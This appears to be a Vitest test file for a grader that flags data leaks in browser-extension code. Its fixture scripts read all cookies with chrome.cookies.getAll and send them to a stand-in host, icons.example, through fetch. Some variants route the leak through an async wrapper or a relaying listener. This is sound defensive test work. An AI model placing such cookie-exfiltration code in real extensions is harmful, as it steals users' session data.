import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* A dispatcher that answers each kind of message with something else, asked by way of one function. */

const background = `
  async function notify(message, sender) {
    switch (message.action) {
      case 'where': return sender.tab.url;
      case 'all': return chrome.cookies.getAll({});
      case 'icon': return message.icon;
    }
  }
  chrome.runtime.onMessage.addListener(notify);`;
const helper = `const send = (message) => { if (typeof notify === 'function') return notify(message); else return chrome.runtime.sendMessage(message); };`;
const ask = (action: string): string =>
  `${helper} async function icon() { const i = await send({ action: '${action}', icon: 'a.png' }); fetch('https://icons.example/?i=' + JSON.stringify(i)); } icon();`;

it('gives each asker the answer to its own message', async () => {
  expect(await graded({ background, content: ask('icon') })).toMatch(/^A/);
  expect(await graded({ background, content: ask('where') })).toMatch(/[DF]/);
  expect(await graded({ background, content: ask('all') })).toBe('F');
});

it('does so within one script, too', async () => {
  expect(await graded({ background: background + ask('icon') })).toMatch(/^A/);
  expect(await graded({ background: background + ask('all') })).toBe('F');
});

it('knows nothing of what a function in between does with the answer', async () => {
  const keeps = helper.replace('else return', 'else return await').replace('(message) =>', 'async (message) =>');
  const content = ask('all').replace(helper, keeps);
  expect(await graded({ background, content })).toBe('F');
});

it('hears what a function in between answers as a listener, too', async () => {
  const relay =
    'const hear = (message, sender) => notify(message, sender); chrome.runtime.onMessage.addListener(hear); hear({ action: "icon" });';
  const through = background.replace('chrome.runtime.onMessage.addListener(notify);', relay);
  expect(await graded({ background: through, content: ask('all') })).toBe('F');
});
